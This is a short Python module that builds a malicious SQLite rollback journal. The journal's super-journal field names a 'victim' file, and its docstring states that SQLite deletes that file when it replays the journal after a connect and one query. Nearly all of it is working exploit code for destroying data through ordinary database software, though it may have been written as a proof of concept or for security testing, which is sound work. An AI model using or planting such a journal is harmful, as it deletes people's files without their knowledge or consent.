"""A SQLite journal that deletes a file of the user."""

import os
import struct

MAGIC = bytes.fromhex("d9d505f920a163d7")


def journal(victim):
    """Return a rollback journal whose super-journal is `victim`.

    SQLite plays the journal back, reads `victim` as a list of other journals, finds none of them,
    and deletes it: `sqlite3.connect` and one query do so.
    """
    name = os.fsencode(victim)
    head = MAGIC + struct.pack(">5I", 0, 1, 1, 512, 4096)
    end = struct.pack(">I", 1025) + name + struct.pack(">II", len(name), sum(name)) + MAGIC
    return head.ljust(512, b"\0") + end
